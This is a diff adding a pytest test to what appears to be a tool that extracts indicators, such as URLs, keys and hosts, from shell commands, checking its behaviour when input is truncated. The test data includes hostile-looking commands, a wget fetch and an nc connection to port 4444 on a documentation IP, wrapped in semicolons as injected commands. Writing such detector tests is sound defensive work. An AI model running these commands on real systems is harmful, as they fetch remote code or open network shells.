@@ -144,6 +144,16 @@ def test_any_command_is_read(command: str) -> None:
     assert all(each.value.isprintable() and each.value for each in artefacts_of_command(command))
 
 
+@pytest.mark.parametrize("named", ["wget http://192.0.2.7/abcdef", f"ssh-ed25519 {KEY}", "nc 192.0.2.7 4444"])
+def test_what_is_cut_names_nothing(named: str) -> None:
+    whole, kinds = artefacts_of_command(f";{named};"), {each.kind for each in artefacts_of_command(named)}
+    assert kinds
+    for left in range(1, len(named) + 3):
+        found = artefacts_of_command(f"{' ' * (READ_CHARACTERS - left)};{named};")
+        assert found in (whole, []), left
+    assert found == whole
+
+
 @pytest.mark.parametrize(
     "unit",
     [
